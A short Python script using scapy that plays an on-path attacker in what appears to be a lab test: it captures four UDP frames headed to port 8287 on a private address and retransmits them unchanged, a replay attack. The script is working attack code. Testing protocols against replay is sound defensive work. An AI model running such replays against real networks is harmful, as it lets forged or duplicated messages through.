"""Somebody on the cable who records four records on their way to B, and sends them a second time."""

import subprocess
import sys
from threading import Event

from scapy.all import UDP, AsyncSniffer, sendp

COUNT = 4


def main() -> None:
    began = Event()
    sniffer = AsyncSniffer(
        iface="eth0",
        count=COUNT,
        lfilter=lambda frame: UDP in frame and frame[UDP].dport == 8287,
        started_callback=began.set,
    )
    sniffer.start()
    began.wait(10)
    subprocess.run([sys.executable, "send.py", "192.168.3.3", str(COUNT)], check=True)
    sniffer.join(timeout=10)
    for frame in sniffer.results:
        del frame[UDP].chksum  # here it is not made yet: that is left to the device, and scapy makes it instead
    sendp(sniffer.results, iface="eth0", verbose=False)
    print(f"sent again: {len(sniffer.results)} records")


main()
